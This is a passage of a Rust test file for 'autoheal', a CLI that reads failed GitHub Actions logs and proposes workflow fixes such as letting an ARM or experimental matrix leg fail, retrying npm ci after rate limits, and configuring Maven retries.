    assert!(stderr.contains("before its 10-minute time limit"), "{stderr}");
}

const ARM_MATRIX: &str = "name: build\non: [push]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make lint\n  build:\n    runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, ubuntu-24.04-arm]\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./bin/tool\n";

/// `gh run view --log-failed` output: job, step and line in tab-separated
/// columns.
fn gh_log_failed(job: &str, step: &str, lines: &[&str]) -> String {
    lines
        .iter()
        .enumerate()
        .map(|(i, l)| format!("{job}\t{step}\t2024-05-02T10:15:{i:02}.1234567Z {l}\n"))
        .collect()
}

/// A runner-tied failure on one matrix leg: `fix` finds the workflow from
/// the job column of `gh run view --log-failed` output, confirms the leg ran
/// on ARM64 and lets only that leg fail (an `experimental` include entry).
/// The x64 leg with the same message is a real failure: no fix.
#[test]
fn fix_lets_only_the_arm_leg_of_a_matrix_fail_from_gh_log_failed_output() {
    let exec = "/home/runner/work/_temp/0a1b.sh: line 1: ./bin/tool: cannot execute binary file: Exec format error";
    let dir = repo();
    std::fs::write(dir.path().join(".github/workflows/build.yml"), ARM_MATRIX).unwrap();
    let log = gh_log_failed(
        "build (ubuntu-24.04-arm)",
        "Run ./bin/tool",
        &[exec, "##[error]Process completed with exit code 126."],
    );
    std::fs::write(dir.path().join("failed.txt"), &log).unwrap();
    let out = autoheal(dir.path(), &["fix", "--log", "failed.txt"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("fixing .github/workflows/build.yml"), "{stderr}");
    let diff = String::from_utf8_lossy(&out.stdout);
    assert!(
        diff.contains("+    continue-on-error: ${{ matrix.experimental }}\n"),
        "{diff}"
    );
    assert!(
        diff.contains("+        include:\n+          - os: ubuntu-24.04-arm\n+            experimental: true\n"),
        "{diff}"
    );

    let x64 = log.replace("build (ubuntu-24.04-arm)", "build (ubuntu-latest)");
    std::fs::write(dir.path().join("failed.txt"), x64).unwrap();
    let out = autoheal(
        dir.path(),
        &[
            "fix",
            "--log",
            "failed.txt",
            "--workflow",
            ".github/workflows/build.yml",
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(out.stdout.is_empty());
}

/// `gh run view --log-failed | autoheal fix --log -`: the workflow comes
/// from the job column, the log from stdin.
#[test]
fn fix_reads_gh_log_failed_output_from_stdin_and_finds_the_workflow_by_job() {
    let dir = repo();
    std::fs::write(
        dir.path().join(".github/workflows/lint.yml"),
        "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ruff check .\n",
    )
    .unwrap();
    let gh: String = raw_log()
        .lines()
        .map(|l| format!("test\tRun python -m pytest -q\t{l}\n"))
        .collect();
    let out = autoheal_stdin(dir.path(), &["fix", "--log", "-"], gh.as_bytes());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("fixing .github/workflows/ci.yml"), "{stderr}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("+      - run: pip install pytest PyYAML   # deps"));
    let out = autoheal_stdin(dir.path(), &["diagnose", "-", "--format", "json"], gh.as_bytes());
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["failures"][0]["job"], "test", "{v}");
    assert_eq!(v["failures"][0]["span"]["path"], ".github/workflows/ci.yml", "{v}");
}

/// A leg the author marked `experimental` in `include`: `fix --workflow`
/// makes `continue-on-error` follow that flag, so only that leg may fail.
#[test]
fn fix_lets_a_leg_marked_experimental_fail_through_its_flag() {
    let workflow = "name: ci\non: [push]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make lint\n  test:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        python: ['3.12']\n        include:\n          - python: '3.14-dev'\n            experimental: true\n    steps:\n      - run: ./bin/tool\n";
    let dir = repo_with(workflow, "");
    let exec = "/home/runner/work/_temp/0a1b.sh: line 1: ./bin/tool: cannot execute binary file: Exec format error";
    let log = gh_log_failed("test (3.14-dev)", "Run ./bin/tool", &[exec]);
    std::fs::write(dir.path().join("failed.txt"), &log).unwrap();
    let args = ["fix", "--log", "failed.txt", "--workflow", ".github/workflows/ci.yml"];
    let out = autoheal(dir.path(), &args);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let diff = String::from_utf8_lossy(&out.stdout);
    assert!(
        diff.contains("+    continue-on-error: ${{ matrix.experimental }}\n"),
        "{diff}"
    );
    assert_eq!(
        diff.matches("\n+").count(),
        2,
        "one line added (and the +++ header): {diff}"
    );
    // The required leg's failure is not the runner's: no fix.
    std::fs::write(dir.path().join("failed.txt"), log.replace("3.14-dev", "3.12")).unwrap();
    let out = autoheal(dir.path(), &args);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
}

/// A log in the runner's raw format: each line stamped.
fn stamped(lines: &[&str]) -> String {
    lines
        .iter()
        .enumerate()
        .map(|(i, l)| format!("2024-05-02T10:15:{:02}.1234567Z {l}\n", i))
        .collect()
}

/// An npm 429: the retry around `npm ci`, and setup-node's `cache: npm`
/// because the checkout (read through the CLI's repository view, which
/// lists files) has the lock file setup-node needs; without it, no cache.
#[test]
fn fix_caches_npm_only_when_the_checkout_has_the_lock_file() {
    let workflow = "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n      - run: npm ci\n";
    let log = stamped(&[
        "##[group]Run npm ci",
        "npm ci",
        "##[endgroup]",
        "npm ERR! code E429",
        "npm ERR! 429 Too Many Requests - GET https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
        "##[error]Process completed with exit code 1.",
    ]);
    let with_lock = support::repo(&[
        (".github/workflows/ci.yml", workflow),
        ("package.json", "{}"),
        ("package-lock.json", "{}"),
        ("npm.log", &log),
    ]);
    let args = ["fix", "--log", "npm.log", "--workflow", ".github/workflows/ci.yml"];
    let out = autoheal(with_lock.path(), &args);
    let diff = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(diff.contains("+          cache: npm\n"), "{diff}");
    assert!(
        diff.contains("+            if npm ci; then break; else autoheal_status=$?; fi\n"),
        "{diff}"
    );
    let without = support::repo(&[
        (".github/workflows/ci.yml", workflow),
        ("package.json", "{}"),
        ("npm.log", &log),
    ]);
    let out = autoheal(without.path(), &args);
    let diff = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        diff.contains("if npm ci; then break; else autoheal_status=$?; fi") && !diff.contains("cache:"),
        "{diff}"
    );
}

/// A Maven Central 429 in `mvn verify`: Maven's resolver is told to retry
/// (`MAVEN_OPTS`); the build is never wrapped in a loop.
#[test]
fn fix_never_loops_a_maven_build() {
    let workflow = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: mvn -B verify\n";
    let log = stamped(&[
        "##[group]Run mvn -B verify",
        "mvn -B verify",
        "##[endgroup]",
        "Error:  Failed to execute goal on project app: Could not resolve dependencies for project com.example:app:jar:1.0: Could not transfer artifact org.slf4j:slf4j-api:jar:2.0.9 from/to central (https://repo.maven.apache.org/maven2): status code: 429, reason phrase: Too Many Requests (429)",
        "##[error]Process completed with exit code 1.",
    ]);
    let dir = support::repo(&[
        (".github/workflows/ci.yml", workflow),
        ("pom.xml", "<project/>"),
        ("mvn.log", &log),
    ]);
    let out = autoheal(
        dir.path(),
        &["fix", "--log", "mvn.log", "--workflow", ".github/workflows/ci.yml"],
    );
    let diff = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        diff.contains("+          MAVEN_OPTS: '-Daether.connector.http.retryHandler.count=6"),
        "{diff}"
    );
    assert!(!diff.contains("for attempt"), "{diff}");
}
